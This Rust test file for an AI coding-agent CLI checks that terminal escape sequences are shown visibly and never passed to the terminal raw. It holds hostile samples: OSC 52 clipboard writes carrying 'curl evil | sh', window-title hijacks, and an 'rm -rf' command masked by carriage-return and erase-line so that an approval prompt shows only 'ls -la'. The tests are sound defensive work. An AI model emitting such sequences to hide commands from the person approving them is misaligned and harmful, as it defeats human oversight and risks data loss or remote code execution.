//! Nothing the model, a tool or a repository chose reaches a terminal raw (issue 18, part 2).
//!
//! Each test is an attack: the real `runner` binary is fed text full of what a terminal acts
//! on (OSC 52 writes the clipboard, OSC 0 the window title, CR and erase-line redraw a line,
//! cursor-up climbs over the lines above, C1 CSI is ESC `[` in one character, a bidi override
//! reorders a name) from a scripted model, a command's output, a file name and a file's
//! content, and the bytes that reach the terminal (a pseudo-terminal from util-linux's
//! `script`, or a pipe) are checked: no ESC but runner's own colour sequences, no BEL, no
//! lone CR, no C1 or bidi control, and every attacking byte shown visibly (`\e`, `\r`, …).
//! Each sits next to its control: runner's own colours still show, `--json` is still exact,
//! a piped patch still carries its lines as `git diff` would.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::provider::{Answer, Response, ScriptedModel, call, text};
use serde_json::{Value, json};

/// What the model writes: the clipboard, the window title, a redrawn line, a C1 CSI, a bidi
/// override, and a colour of its own.
const MODEL_TEXT: &str = "Looking.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b]0;owned\x07 \
    safe\r\x1b[2K\x1b[1A \u{9b}2K \u{202e}txt.exe \x1b[31mnot runner's red\x1b[0m\n";
/// The same, as it must be shown.
const MODEL_TEXT_SHOWN: &str = "Looking.\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a \\e]0;owned\\a \
    safe\\r\\e[2K\\e[1A \\u{9b}2K \\u{202e}txt.exe \\e[31mnot runner's red\\e[0m";

struct Home {
    _tmp: tempfile::TempDir,
    wt: PathBuf,
    data: PathBuf,
    config: PathBuf,
}

impl Home {
    fn new() -> Home {
        let tmp = tempfile::tempdir().unwrap();
        let base = std::fs::canonicalize(tmp.path()).unwrap();
        let (wt, data, config) = (base.join("wt"), base.join("data"), base.join("config"));
        for d in [&wt, &data, &config] {
            std::fs::create_dir_all(d).unwrap();
        }
        // A checkout: a direct `runner run` outside git stops before the model is asked.
        common::git(&wt, &["init", "-q"]);
        std::fs::write(wt.join("add.sh"), "echo $(($1 - $2))\n").unwrap();
        Home {
            _tmp: tmp,
            wt,
            data,
            config,
        }
    }

    /// The environment every run gets; colour is left to the terminal (no NO_COLOR).
    fn env(&self, model: Option<&ScriptedModel>) -> Vec<(String, String)> {
        let mut env = vec![
            ("XDG_DATA_HOME".into(), self.data.display().to_string()),
            ("XDG_CONFIG_HOME".into(), self.config.display().to_string()),
            ("TERM".into(), "xterm".into()),
        ];
        if let Some(m) = model {
            env.push(("OPENAI_API_KEY".into(), "sk-test".into()));
            env.push(("OPENAI_BASE_URL".into(), m.openai_base()));
        }
        env
    }

    /// `runner ARGS` with stdout and stderr piped.
    fn piped(&self, model: Option<&ScriptedModel>, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_runner"))
            .args(args)
            .current_dir(&self.wt)
            .env_remove("NO_COLOR")
            .envs(self.env(model))
            .stdin(Stdio::null())
            .output()
            .unwrap()
    }

    /// `runner ARGS` on a pseudo-terminal; each `(shown, key)` types `key` once `shown` is
    /// on the screen (as often as it is listed). Returns the exit status and every byte the
    /// terminal received.
    fn on_a_pty(
        &self,
        model: Option<&ScriptedModel>,
        args: &[&str],
        answers: &[(&str, &str)],
    ) -> (i32, Vec<u8>) {
        let mut pty = LivePty::start(self, model, args);
        for (i, (shown, key)) in answers.iter().enumerate() {
            let before = answers[..i].iter().filter(|(s, _)| s == shown).count();
            let appeared = pty.wait_for(Duration::from_secs(60), |screen| {
                screen.matches(shown).count() > before
            });
            assert!(appeared, "{shown:?} never appeared: {}", pty.raw());
            pty.type_keys(key.as_bytes());
        }
        pty.finish_bytes()
    }
}

fn sh_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

/// The terminal's bytes with the pty's own line endings (`\r\n`) made `\n`, and runner's
/// colour sequences (`ESC [ digits m`) counted and taken out.
fn without_colours(bytes: &[u8]) -> (String, usize) {
    let text = String::from_utf8_lossy(bytes).replace("\r\n", "\n");
    let mut out = String::new();
    let mut colours = 0;
    let mut rest = text.as_str();
    while let Some(at) = rest.find("\x1b[") {
        out.push_str(&rest[..at]);
        let after = &rest[at + 2..];
        let params = after
            .find(|c: char| !(c.is_ascii_digit() || c == ';'))
            .unwrap_or(after.len());
        if after[params..].starts_with('m') {
            colours += 1;
            rest = &after[params + 1..];
        } else {
            // Not a colour: left in, for `raw_controls` to find.
            out.push_str("\x1b[");
            rest = after;
        }
    }
    out.push_str(rest);
    (out, colours)
}

/// Every character in `text` a terminal would act on (newline and tab are fine).
fn raw_controls(text: &str) -> Vec<String> {
    text.char_indices()
        .filter(|(_, c)| {
            (c.is_control() && *c != '\n' && *c != '\t')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .map(|(i, c)| {
            let from = text[..i].char_indices().rev().nth(30).map_or(0, |(j, _)| j);
            format!("{c:?} after {:?}", &text[from..i])
        })
        .collect()
}

fn assert_nothing_raw(what: &str, text: &str) {
    let raw = raw_controls(text);
    assert!(
        raw.is_empty(),
        "{what}: raw controls reached the terminal: {raw:#?}\n{text}"
    );
}

/// The model's script: text and a command whose output and title attack, a call whose error
/// quotes a name that attacks, and a last answer that does too.
fn hostile_model() -> ScriptedModel {
    ScriptedModel::start(vec![
        Response::Stream(Answer {
            text: MODEL_TEXT.into(),
            calls: vec![(
                "bash".into(),
                json!({
                    "command": "printf '\\033]52;c;ZXZpbA==\\007\\033[1A\\033[2Kout\\r\\n'",
                    "description": "list\x1b]0;TITLE-PWNED\x07 files",
                })
                .to_string(),
            )],
            ..Default::default()
        }),
        Response::Stream(call(
            "read",
            json!({"filePath": "missing\x1b[2K\x1b[1A.txt"}),
        )),
        Response::Stream(text("done \u{9b}1A\n")),
    ])
}

fn session_id(data: &Path) -> String {
    let dir = data.join("runner/sessions");
    let file = std::fs::read_dir(&dir)
        .unwrap()
        .flatten()
        .next()
        .expect("a session file")
        .path();
    file.file_stem().unwrap().to_string_lossy().into_owned()
}

/// The run view on a terminal: the model's text, a tool's title and a tool's error are
/// shown with every escape visible; runner's own colours (the control) still arrive as
/// colours. Then the same session through `sessions show` and `sessions list`, piped.
#[test]
fn the_run_view_and_the_transcript_show_every_escape() {
    let home = Home::new();
    let model = hostile_model();
    let (status, bytes) = home.on_a_pty(
        Some(&model),
        &[
            "--model",
            "openai/m",
            "--sandbox",
            "landlock",
            "--ask",
            "allow",
            "look around",
        ],
        &[],
    );
    let (screen, colours) = without_colours(&bytes);
    assert_eq!(status, 0, "{screen}");
    assert_nothing_raw("runner run on a terminal", &screen);
    for shown in [
        MODEL_TEXT_SHOWN,
        "bash list\\e]0;TITLE-PWNED\\a files",
        "missing\\e[2K\\e[1A.txt",
        "done \\u{9b}1A",
    ] {
        assert!(
            screen.contains(shown),
            "{shown:?} is not on screen:\n{screen}"
        );
    }
    // The control: runner's own colours, a green tick and a red cross, still colour.
    let raw = String::from_utf8_lossy(&bytes);
    assert!(
        raw.contains("\x1b[32m✓\x1b[0m") && raw.contains("\x1b[31m✗\x1b[0m"),
        "{raw:?}"
    );
    assert!(colours >= 4, "{colours} colour sequences: {raw:?}");

    // The transcript holds the command's output too: escaped, like the rest.
    let id = session_id(&home.data);
    let shown = home.piped(None, &["sessions", "show", &id]);
    let transcript = String::from_utf8_lossy(&shown.stdout).into_owned();
    assert!(shown.status.success(), "{shown:?}");
    assert_nothing_raw("sessions show", &transcript);
    for want in [
        MODEL_TEXT_SHOWN,
        "\\e]52;c;ZXZpbA==\\a\\e[1A\\e[2Kout\\r",
        "missing\\e[2K\\e[1A.txt",
    ] {
        assert!(transcript.contains(want), "{want:?} not in:\n{transcript}");
    }
    let listed = home.piped(None, &["sessions", "list"]);
    assert_nothing_raw("sessions list", &String::from_utf8_lossy(&listed.stdout));
    // `export` is the exact record, as JSON with no raw control in it.
    let export = home.piped(None, &["sessions", "export", &id]);
    let export = String::from_utf8(export.stdout).unwrap();
    assert_nothing_raw("sessions export", &export);
    let turns: Vec<Value> = export
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(turns[1]["turn"]["text"], MODEL_TEXT, "{export}");
}

/// `--json` stays exact JSON (every event parses and the model's text comes back byte for
/// byte), and the bytes of it hold no raw control either: serde escapes C0, and DEL, C1
/// and bidi controls are written as `\uXXXX` too.
#[test]
fn json_events_are_exact_and_hold_nothing_raw() {
    let home = Home::new();
    let model = hostile_model();
    let out = home.piped(
        Some(&model),
        &[
            "--model",
            "openai/m",
            "--sandbox",
            "landlock",
            "--ask",
            "allow",
            "--json",
            "look around",
        ],
    );
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert_eq!(out.status.code(), Some(0), "{stdout}");
    assert_nothing_raw("runner run --json", &stdout);
    let events: Vec<Value> = stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    let said: String = events
        .iter()
        .filter(|e| e["type"] == "text")
        .map(|e| e["delta"].as_str().unwrap())
        .collect();
    assert!(said.starts_with(MODEL_TEXT), "{said:?}");
    assert!(said.ends_with("done \u{9b}1A\n"), "{said:?}");
}

/// A command's output through `tool call`: escaped for a person, exact in `--json`.
#[test]
fn tool_call_output_is_escaped_for_a_person_and_exact_in_json() {
    let home = Home::new();
    let args = json!({
        "command": "printf '\\033]0;t\\007\\033[2Kline\\r\\302\\233x\\n'",
        "description": "d",
    })
    .to_string();
    let root = home.wt.display().to_string();
    let base = [
        "tool", "call", "bash", &args, "--root", &root, "--ask", "allow",
    ];
    let out = home.piped(None, &base);
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(out.status.success(), "{stdout}");
    assert_nothing_raw("tool call", &stdout);
    assert_eq!(stdout, "\\e]0;t\\a\\e[2Kline\\r\\u{9b}x\n\n");

    let mut json_args = base.to_vec();
    json_args.push("--json");
    let out = home.piped(None, &json_args);
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert_nothing_raw("tool call --json", &stdout);
    let v: Value = serde_json::from_str(stdout.trim()).unwrap();
    assert_eq!(v["output"], "\x1b]0;t\x07\x1b[2Kline\r\u{9b}x\n");
}

/// The ask prompt of the issue: the command ends in a carriage return, an erase-line and
/// an OSC 52, so a terminal showed only `ls -la"`. On a real terminal the whole command is
/// there, every byte visible, and a multi-line command is visibly multi-line. Both are
/// rejected; the control is the prompt itself working (it answers, nothing runs).
#[test]
fn the_ask_prompt_shows_the_whole_command_every_byte_visible() {
    let home = Home::new();
    let config = home.config.join("asks.toml");
    std::fs::write(&config, "[permission]\nbash = \"ask\"\n").unwrap();
    let hidden = "rm -rf \"src/important\r\x1b[2K\x1b]52;c;bHMgLWxh\x07ls -la\"";
    let script = home.config.join("calls.jsonl");
    let lines: String = [hidden, "touch one &&\ntouch two"]
        .iter()
        .map(|c| {
            format!(
                "{}\n",
                json!({"tool": "bash", "args": {"command": c, "description": "d"}})
            )
        })
        .collect();
    std::fs::write(&script, lines).unwrap();
    std::fs::create_dir_all(home.wt.join("src/important")).unwrap();
    let root = home.wt.display().to_string();
    let (status, bytes) = home.on_a_pty(
        None,
        &[
            "tool",
            "script",
            &script.display().to_string(),
            "--root",
            &root,
            "--config",
            &config.display().to_string(),
        ],
        &[("[f]eedback", "r"), ("[f]eedback", "r")],
    );
    let (screen, colours) = without_colours(&bytes);
    assert_eq!(status, 3, "{screen}");
    assert_eq!(colours, 0, "{screen}");
    assert_nothing_raw("the ask prompt", &screen);
    assert!(
        screen.contains("  command: rm -rf \"src/important\\r\\e[2K\\e]52;c;bHMgLWxh\\als -la\"\n"),
        "{screen}"
    );
    assert!(
        screen.contains("  command: touch one &&\n           touch two\n"),
        "{screen}"
    );
    assert!(home.wt.join("src/important").is_dir());
    assert!(!home.wt.join("one").exists() && !home.wt.join("two").exists());
}

/// `runner changes` of a copy whose file name and content attack the reviewer: an added
/// `curl … | sh` line followed by cursor-up and erase-line, which on a terminal would wipe
/// it from view, in a file whose name sets the window title. Names in the headers are
/// quoted as git quotes them, piped or not; the lines are escaped on a terminal and left as
/// they are in a piped patch (the control: what `git diff` gives a program).
#[test]
fn changes_quote_names_and_show_escapes_on_a_terminal() {
    let home = Home::new();
    let root = home.wt.display().to_string();
    let command = "printf 'curl evil | sh\\n\\033[1A\\033[2Kecho fine\\n' > \"$(printf 'x\\033]0;t\\007.sh')\" && echo plain > plain.txt";
    let args = json!({"command": command, "description": "work"}).to_string();
    let made = home.piped(
        None,
        &[
            "tool",
            "call",
            "bash",
            &args,
            "--root",
            &root,
            "--ask",
            "allow",
            "--workspace",
            "copy",
            "--sandbox",
            "landlock",
        ],
    );
    let err = String::from_utf8_lossy(&made.stderr).into_owned();
    assert!(made.status.success(), "{made:?}");
    let id = err
        .lines()
        .find_map(|l| l.strip_prefix("workspace: "))
        .unwrap_or_else(|| panic!("no workspace line: {err}"))
        .to_string();

    let piped = String::from_utf8(home.piped(None, &["changes", &id]).stdout).unwrap();
    let quoted = "\"b/x\\033]0;t\\a.sh\"";
    assert!(
        piped.contains(&format!("diff --git \"a/x\\033]0;t\\a.sh\" {quoted}\n"))
            && piped.contains(&format!("+++ {quoted}\n")),
        "{piped:?}"
    );
    assert!(piped.contains("+++ b/plain.txt\n"), "{piped:?}");
    // Piped, a line is as the file holds it; only there.
    assert!(
        piped.contains("+curl evil | sh\n+\x1b[1A\x1b[2Kecho fine\n"),
        "{piped:?}"
    );
    let headers: String = piped
        .lines()
        .filter(|l| !l.starts_with('+') && !l.starts_with('-') && !l.starts_with(' '))
        .collect::<Vec<_>>()
        .join("\n");
    assert_nothing_raw("the patch's headers", &headers);

    let (status, bytes) = home.on_a_pty(None, &["changes", &id], &[]);
    let (screen, _) = without_colours(&bytes);
    assert_eq!(status, 0, "{screen}");
    assert_nothing_raw("runner changes on a terminal", &screen);
    assert!(
        screen.contains("+curl evil | sh\n+\\e[1A\\e[2Kecho fine\n")
            && screen.contains(&format!("+++ {quoted}\n")),
        "{screen}"
    );

    // `--json` names the file exactly.
    let listed = home.piped(None, &["changes", &id, "--json"]);
    let listed = String::from_utf8(listed.stdout).unwrap();
    assert_nothing_raw("changes --json", &listed);
    let v: Value = serde_json::from_str(&listed).unwrap();
    let names: Vec<&str> = v["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    assert!(names.contains(&"x\x1b]0;t\x07.sh"), "{names:?}");
    assert!(home.piped(None, &["discard", &id]).status.success());
}

/// What the sandbox leaves in the checkout is reported by name when it closes, and those
/// names are the sandbox's choice: a FIFO and a nested repository whose names hold an OSC 52
/// are named with every byte visible. Control: the report is there (the FIFO went).
#[test]
fn what_the_sandbox_left_is_named_visibly_when_it_closes() {
    let home = Home::new();
    let git = |args: &[&str]| {
        let ok = Command::new("git")
            .args(args)
            .current_dir(&home.wt)
            .output()
            .unwrap()
            .status
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["init", "-q"]);
    let name = "f\\033]52;c;aGk=\\007";
    let command = format!(
        "mkfifo \"$(printf '{name}')\" && mkdir -p \"$(printf 'r{name}')\" && git init -q \"$(printf 'r{name}')\""
    );
    let args = json!({ "command": command, "description": "leave things" }).to_string();
    let root = home.wt.display().to_string();
    let out = home.piped(
        None,
        &[
            "tool",
            "call",
            "bash",
            &args,
            "--root",
            &root,
            "--sandbox",
            "landlock",
            "--ask",
            "allow",
        ],
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains("when the sandbox closed") && stderr.contains("f\\e]52;c;aGk=\\a"),
        "the FIFO is named, visibly: {stderr}"
    );
    assert_nothing_raw("the close report", &stderr);
}

/// `runner ARGS` on a pseudo-terminal (util-linux `script`), left running: the test reads
/// the screen as it grows and types into it when it likes.
struct LivePty {
    child: std::process::Child,
    stdin: std::process::ChildStdin,
    screen: Arc<Mutex<Vec<u8>>>,
    reader: std::thread::JoinHandle<()>,
}

impl LivePty {
    fn start(home: &Home, model: Option<&ScriptedModel>, args: &[&str]) -> LivePty {
        common::engine::ensure_package("bsdutils", "/usr/bin/script");
        let inner = std::iter::once(env!("CARGO_BIN_EXE_runner"))
            .chain(args.iter().copied())
            .map(sh_quote)
            .collect::<Vec<_>>()
            .join(" ");
        let mut child = Command::new("script")
            .args(["-qec", &inner, "/dev/null"])
            .current_dir(&home.wt)
            .env_remove("NO_COLOR")
            .envs(home.env(model))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("util-linux script");
        let screen = Arc::new(Mutex::new(Vec::<u8>::new()));
        let mut stdout = child.stdout.take().unwrap();
        let sink = screen.clone();
        let reader = std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok(n) = stdout.read(&mut buf) {
                if n == 0 {
                    break;
                }
                sink.lock().unwrap().extend_from_slice(&buf[..n]);
            }
        });
        let stdin = child.stdin.take().unwrap();
        LivePty {
            child,
            stdin,
            screen,
            reader,
        }
    }

    /// Every byte so far, as text.
    fn raw(&self) -> String {
        String::from_utf8_lossy(&self.screen.lock().unwrap()).into_owned()
    }

    /// Waits until `seen` holds for the screen (true), or `within` passed (false).
    fn wait_for(&self, within: Duration, seen: impl Fn(&str) -> bool) -> bool {
        let deadline = Instant::now() + within;
        while Instant::now() < deadline {
            if seen(&self.raw()) {
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        false
    }

    /// Types `keys` into the terminal.
    fn type_keys(&mut self, keys: &[u8]) {
        self.stdin.write_all(keys).unwrap();
        self.stdin.flush().unwrap();
    }

    /// Waits for the program to end: its exit status and every byte the terminal received.
    fn finish_bytes(mut self) -> (i32, Vec<u8>) {
        let status = self.child.wait().unwrap();
        drop(self.stdin);
        self.reader.join().unwrap();
        let bytes = self.screen.lock().unwrap().clone();
        (status.code().unwrap_or(-1), bytes)
    }

    fn finish(self) -> (i32, String) {
        let (status, bytes) = self.finish_bytes();
        (status, String::from_utf8_lossy(&bytes).into_owned())
    }
}

const RUN_ARGS: [&str; 8] = [
    "--model",
    "openai/m",
    "--sandbox",
    "landlock",
    "--ask",
    "allow",
    "--root",
    ".",
];

/// A call that runs for seconds is on the screen while it runs: its title and its time so
/// far (a time that moves), and bash's latest output under it, escaped: the command's own
/// erase-line arrives as `\e[2K`, never as the sequence. When it ends the live line goes
/// and the kept line says ✓. On the old view nothing showed until the end: the title first
/// appeared on the ✓ line.
#[test]
fn a_long_call_is_shown_while_it_runs_and_its_line_says_done() {
    let home = Home::new();
    let model = ScriptedModel::start(vec![
        Response::Stream(call(
            "bash",
            json!({
                "command": "printf 'first\\033[2K line\\n'; sleep 3; echo finished",
                "description": "slow step",
            }),
        )),
        Response::Stream(text("all done\n")),
    ]);
    let mut args = RUN_ARGS.to_vec();
    args.push("take your time");
    let pty = LivePty::start(&home, Some(&model), &args);
    assert!(
        pty.wait_for(Duration::from_secs(60), |s| s.contains("slow step")),
        "the call never showed: {:?}",
        pty.raw()
    );
    // Seen while it runs: not yet ended, a running time next to the title.
    std::thread::sleep(Duration::from_millis(1200));
    let running = pty.raw();
    let (screen, _) = without_colours(running.as_bytes());
    assert!(
        !running.contains("✓"),
        "the title first showed on the ended line: {running:?}"
    );
    let timed = regex::Regex::new(r"bash slow step \d+\.\ds").unwrap();
    let times: std::collections::BTreeSet<&str> =
        timed.find_iter(&screen).map(|m| m.as_str()).collect();
    assert!(
        times.len() >= 2,
        "a running time that moves next to the title: {times:?} in {screen:?}"
    );
    assert!(
        screen.contains("first\\e[2K line"),
        "the output's tail, escaped: {screen:?}"
    );
    assert!(
        !running.contains("first\x1b[2K"),
        "the command's own escape reached the terminal: {running:?}"
    );
    let (status, raw) = pty.finish();
    assert_eq!(status, 0, "{raw:?}");
    assert!(
        raw.contains("\x1b[32m✓\x1b[0m bash slow step"),
        "the kept line says done: {raw:?}"
    );
}

/// Ctrl-C (the byte 0x03 typed on the terminal) while a call runs: the kept line says ⊘
/// cancelled, not ✓. The old view drew a green tick, because bash handed back what the
/// stopped command had printed.
#[test]
fn a_call_cancelled_with_ctrl_c_is_drawn_stopped_not_done() {
    let home = Home::new();
    let model = ScriptedModel::start(vec![
        Response::Stream(call(
            "bash",
            json!({"command": "sleep 30", "description": "long wait"}),
        )),
        Response::Stream(text("never\n")),
    ]);
    let mut args = RUN_ARGS.to_vec();
    args.push("wait a while");
    let mut pty = LivePty::start(&home, Some(&model), &args);
    // The live line is up by about half a second into the call; on a view without one the
    // key is typed anyway, later.
    let shown = pty.wait_for(Duration::from_secs(30), |s| s.contains("long wait"));
    std::thread::sleep(Duration::from_millis(500));
    pty.type_keys(b"\x03");
    let (_, raw) = pty.finish();
    let (screen, _) = without_colours(raw.as_bytes());
    assert!(shown, "the running call never showed: {screen:?}");
    assert!(
        screen.contains("⊘ bash long wait") && !screen.contains("✓ bash long wait"),
        "a cancelled call is drawn stopped: {screen:?}"
    );
    assert!(raw.contains("\x1b[33m⊘\x1b[0m"), "{raw:?}");
}

/// `--json`, piped: a long call sends `tool_progress` events (its time, and bash's output
/// so far) no closer than 250 ms apart, and a call stopped by SIGINT ends with outcome
/// `cancelled`. The old events had no progress and said `ok` for the stopped call.
#[test]
fn json_reports_progress_of_a_long_call_and_a_cancelled_outcome() {
    let home = Home::new();
    let model = ScriptedModel::start(vec![
        Response::Stream(call(
            "bash",
            json!({"command": "echo tick; sleep 2; echo tock", "description": "ticking"}),
        )),
        Response::Stream(call(
            "bash",
            json!({"command": "sleep 30", "description": "stopped"}),
        )),
        Response::Stream(text("never\n")),
    ]);
    let mut args = RUN_ARGS.to_vec();
    args.extend(["--json", "tick then wait"]);
    let mut child = Command::new(env!("CARGO_BIN_EXE_runner"))
        .args(&args)
        .current_dir(&home.wt)
        .envs(home.env(Some(&model)))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stdout = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut events: Vec<Value> = Vec::new();
    let mut interrupted = false;
    for line in std::io::BufRead::lines(stdout) {
        let line = line.unwrap();
        let event: Value = serde_json::from_str(&line).unwrap_or_else(|e| panic!("{e}: {line}"));
        let second_call_runs = event["type"] == "tool_progress"
            && events
                .iter()
                .any(|e| e["type"] == "tool_end" && e["outcome"] == "ok");
        events.push(event);
        if second_call_runs && !interrupted {
            interrupted = true;
            let pid = child.id().to_string();
            assert!(
                Command::new("kill")
                    .args(["-INT", &pid])
                    .status()
                    .unwrap()
                    .success()
            );
        }
    }
    let status = child.wait().unwrap();
    let all = events
        .iter()
        .map(Value::to_string)
        .collect::<Vec<_>>()
        .join("\n");
    let ends: Vec<&Value> = events.iter().filter(|e| e["type"] == "tool_end").collect();
    assert_eq!(ends.len(), 2, "{all}");
    assert_eq!(ends[0]["outcome"], "ok", "{all}");
    assert_eq!(ends[1]["outcome"], "cancelled", "{all}");
    // The first call's progress: what came before its end (ids repeat across turns).
    let first_end = events.iter().position(|e| e["type"] == "tool_end").unwrap();
    let progress: Vec<&Value> = events[..first_end]
        .iter()
        .filter(|e| e["type"] == "tool_progress")
        .collect();
    assert!(!progress.is_empty(), "no progress for a 2 s call: {all}");
    assert!(
        progress.iter().any(|p| p["output"] == "tick"),
        "bash's output so far: {all}"
    );
    let elapsed: Vec<f64> = progress
        .iter()
        .map(|p| p["elapsed_ms"].as_f64().unwrap())
        .collect();
    assert!(elapsed[0] >= 450.0, "a quick call sends none: {elapsed:?}");
    for pair in elapsed.windows(2) {
        assert!(
            pair[1] - pair[0] >= 240.0,
            "at most every 250 ms: {elapsed:?}"
        );
    }
    assert!(
        interrupted,
        "the second call never reported progress: {all}"
    );
    assert!(!status.success(), "an interrupted run: {status:?}");
}

/// Piped without `--json` nothing is redrawn: no spinner, no carriage return, just the
/// kept line of each call (a guard for logs; the view before item 4 already kept to it).
#[test]
fn a_piped_run_view_redraws_nothing() {
    let home = Home::new();
    let model = ScriptedModel::start(vec![
        Response::Stream(call(
            "bash",
            json!({"command": "echo one; sleep 1.5; echo two", "description": "piped step"}),
        )),
        Response::Stream(text("ok\n")),
    ]);
    let mut args = RUN_ARGS.to_vec();
    args.push("log it");
    let out = home.piped(Some(&model), &args);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}");
    assert!(stdout.contains("✓ bash piped step"), "{stdout}");
    assert!(!stdout.contains('\r'), "a redraw in a pipe: {stdout:?}");
    assert_nothing_raw("runner run, piped", &stdout);
}
